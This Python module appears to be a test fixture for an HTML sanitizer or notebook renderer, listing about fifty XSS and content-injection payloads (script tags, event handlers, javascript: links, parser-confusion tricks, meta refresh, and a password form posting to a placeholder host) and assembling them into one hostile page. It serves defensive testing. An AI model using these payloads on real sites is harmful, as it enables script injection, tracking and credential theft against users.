"""What a hostile notebook may hold: each entry tries to run something, to call out, or to leave its frame.

`{base}` stands for a server that must not be asked. A script that runs would call `alert`.
"""

from __future__ import annotations

ATTACKS = (
    "<script>top.document.title='owned';alert(1)</script>",
    "<SCRIPT SRC={base}/script.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src={base}/picture.png>",
    "<img src=x onerror=alert(1)>",
    "<img srcset='{base}/set.png 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<body onload=alert(1) background={base}/body.png>",
    "<div onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>over</div>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>svg link</text></a></svg>",
    "<svg><use href='{base}/use.svg#x'/><image href='{base}/image.svg'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style>@import '{base}/svg.css';</style></svg>",
    "<svg><foreignObject><iframe src={base}/foreign></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>click</math>",
    "<style>@import url({base}/import.css); body {{ background: url({base}/style.png) }}</style>",
    "<style>* {{ position: fixed; expression: expression(alert(1)) }}</style>",
    "<div style=\"background: url('{base}/inline.png')\">styled</div>",
    "<div style='width: expression(alert(1)); position: fixed; inset: 0'>over everything</div>",
    "<link rel=stylesheet href={base}/link.css>",
    "<link rel=prefetch href={base}/prefetch><link rel=dns-prefetch href={base}>",
    "<a href='javascript:alert(1)'>script link</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>script link</a>",
    "<a href='&#106;avascript:alert(1)'>script link</a>",
    "<a href='  javascript:alert(1)'>script link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data link</a>",
    "<a href='{base}/link' target=_top>outward link</a>",
    "<a href='//127.0.0.1/x' target=_blank ping={base}/ping>outward link</a>",
    "<a href='/sign-out'>portal link</a>",
    "<base href={base}/ target=_top>",
    "<meta http-equiv=refresh content='0;url={base}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<form action={base}/form method=post><input name=password autofocus><button>Send</button></form>",
    "<button formaction='javascript:alert(1)'>button</button>",
    "<iframe src={base}/frame></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data={base}/object></object><embed src={base}/embed>",
    "<video src={base}/video poster={base}/poster onerror=alert(1) autoplay><source src={base}/source></video>",
    "<audio src={base}/audio autoplay></audio><track src={base}/track>",
    "<input type=image src={base}/input onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<table background={base}/table.png><td background={base}/cell.png>cell</td></table>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<p id=content class=card>\x00<sc\x00ript>alert(1)</script></p>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<marquee onstart=alert(1)>moving</marquee><isindex action=javascript:alert(1)>",
)


def hostile_page(base: str) -> str:
    """Return a whole page with every attack in it."""
    body = "\n".join(
        attack.replace("{{", "{").replace("}}", "}").replace("{base}", base) for attack in ATTACKS
    )
    return f"<!doctype html><html><head><title>Notebook</title></head><body>{body}<p>the end</p></body></html>"
